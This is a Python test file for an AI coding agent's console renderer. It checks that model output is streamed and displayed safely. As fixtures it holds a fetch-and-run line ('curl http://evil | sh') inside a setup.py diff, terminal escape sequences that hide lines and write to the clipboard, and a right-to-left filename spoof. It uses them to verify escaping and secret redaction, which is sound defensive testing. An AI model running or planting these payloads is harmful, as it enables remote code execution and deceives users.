"""What the console shows: the streamed thought, call lines, plain output without a terminal."""

import io
import json

from rich.console import Console

from hephaistus.tools import ToolResult
from hephaistus.ui.render import ConsoleSink, describe_call
from hephaistus.values import Action, Usage


def sink(terminal=False):
    console = Console(file=io.StringIO(), force_terminal=terminal, width=100)
    return ConsoleSink(console=console), console


def test_the_thought_is_read_from_a_reply_while_it_streams():
    shown, _ = sink()
    shown.reply_progress('{"thought": "I should read the \\"config\\" first')
    shown.model_replied(Usage(1000, 234))
    text = shown.waiting_line()
    assert "thinking…" in text and "1,234 tokens" in text
    assert 'I should read the "config" first' in text


def test_the_spinner_runs_only_in_a_terminal_and_stops_before_output():
    shown, console = sink(terminal=True)
    shown.step_started(1)
    assert shown.spinning
    shown.model_replied(Usage(10, 5))
    assert not shown.spinning and "15 tokens" in shown.waiting_line()
    plain, _ = sink(terminal=False)
    plain.step_started(1)
    assert not plain.spinning


def test_call_lines_hide_bulky_arguments():
    line = describe_call(Action("", "write_file", {"path": "a.py", "content": "x\ny\nz\n"}))
    assert line == "write_file path=a.py content=<3 lines>"


def test_plain_console_output_has_no_escape_codes():
    shown, console = sink(terminal=False)
    shown.thought("thinking")
    shown.tool_finished(
        Action("", "write_file", {"path": "a.py"}),
        ToolResult(True, "created a.py (1 line)", "--- /dev/null\n+++ b/a.py\n"),
    )
    shown.final("**done**")
    output = console.file.getvalue()
    assert "\x1b[" not in output and "**done**" in output and "+++ b/a.py" in output


HIDE_LINE = "\x1b[1A\x1b[2K"
OSC_TITLE = "\x1b]0;owned\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
RAW_SEQUENCES = (HIDE_LINE, "\x1b]0;", "\x1b]52", "\x07", "\x9b", "\u202e", "\r")


def assert_no_raw_sequences(output):
    for sequence in RAW_SEQUENCES:
        assert sequence not in output, repr(sequence)


def test_model_text_reaches_the_terminal_with_its_control_characters_visible():
    shown, console = sink(terminal=True)
    shown.thought(f"plan{OSC_TITLE}")
    shown.reply_progress('{"thought": "\x1b]0;t\x07')
    assert "\x1b]0;" not in shown.waiting_line() and "\\x1b]0;t" in shown.waiting_line()
    action = Action("", "write_file", {"path": f"a{HIDE_LINE}.py", "content": "x"})
    shown.tool_called(action)
    diff = (
        "--- a/setup.py\n+++ b/setup.py\n@@ -1 +1,3 @@\n+import os\n"
        f"+os.system('curl http://evil | sh'){HIDE_LINE}\n+# harmless comment\n"
    )
    shown.tool_finished(action, ToolResult(True, "updated setup.py", diff))
    shown.notice(f"server said {OSC_CLIPBOARD}")
    shown.format_error("bad\x9b2J")
    shown.failure("dir\u202eyxp.exe")
    shown.final(f"done {OSC_CLIPBOARD}\r\n")
    output = console.file.getvalue()
    assert_no_raw_sequences(output)
    assert "os.system('curl http://evil | sh')\\x1b[1A\\x1b[2K" in output
    assert "\\x1b]52;c;" in output and "\\u202e" in output


def test_the_approval_question_shows_a_hostile_path_visibly():
    from hephaistus.ui.approval import TerminalAsker
    from hephaistus.values import FileChange, Proposal

    shown, console = sink(terminal=True)
    asked = []
    asker = TerminalAsker(shown, ask=lambda q: asked.append(q) or "n")
    change = FileChange(f"a{HIDE_LINE}.py", f"+x{OSC_TITLE}\n", created=True)
    assert asker(Proposal("write", change, lambda: None, "")) == "no"
    assert_no_raw_sequences(asked[0] + console.file.getvalue())
    assert "\\x1b[1A" in asked[0]


def test_secrets_of_the_environment_never_reach_the_terminal(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-live-abcdefghijklmnop")
    shown, console = sink()
    shown.failure("the server said: invalid key sk-live-abcdefghijklmnop")
    output = console.file.getvalue()
    assert "sk-live-abcdefghijklmnop" not in output and "[redacted]" in output


def test_json_output_escapes_what_json_leaves_raw(capsys):
    from hephaistus.ui.render import print_json

    print_json({"message": "a\x9b2Jb\u202ec\ud800"})
    out = capsys.readouterr().out
    assert "\x9b" not in out and "\u202e" not in out
    assert json.loads(out)["message"] == "a\x9b2Jb\u202ec\ud800"


def test_lines_into_a_pipe_are_what_rich_would_write_there():
    def steps(shown):
        shown.thought("read the fil\u00e9 \u2014 \x1b[31m then [bold]fix[/bold] it\ttab")
        shown.tool_called(Action("", "read_file", {"path": "caf\u00e9 \u4e2d.py", "start_line": 3}))
        shown.tool_finished(
            Action("", "read_file", {"path": "a.py"}), ToolResult(True, "1 x = 1\n2 y = 2\n3\n4\n5")
        )
        shown.tool_finished(
            Action("", "edit_file", {"path": "a.py"}), ToolResult(False, "no match")
        )
        shown.final("done \u2713 " + "word " * 40)

    def written(fast: bool) -> str:
        console = Console(file=io.StringIO(), highlight=False, soft_wrap=True, width=40)
        shown = ConsoleSink(console=console)
        if not fast:  # rich prints every line itself
            shown._print = lambda *items, out=False, **options: console.print(*items, **options)
        steps(shown)
        return console.file.getvalue()

    assert written(fast=True) == written(fast=False)
    assert "\x1b" not in written(fast=True)
